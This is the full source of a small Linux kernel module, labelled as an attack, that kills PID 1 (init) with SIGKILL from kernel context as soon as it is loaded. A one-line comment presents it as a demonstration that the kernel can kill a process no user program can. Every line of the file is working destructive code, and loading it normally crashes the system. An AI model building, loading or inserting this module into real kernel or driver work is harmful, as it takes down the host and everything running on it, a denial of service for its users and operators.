// SPDX-License-Identifier: GPL-2.0
/* The kernel can kill a process that no program can. */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>

static int __init attack_init(void)
{
	return kill_pid(find_vpid(1), SIGKILL, 1);
}
module_init(attack_init);

MODULE_DESCRIPTION("Kills PID 1");
MODULE_LICENSE("GPL");
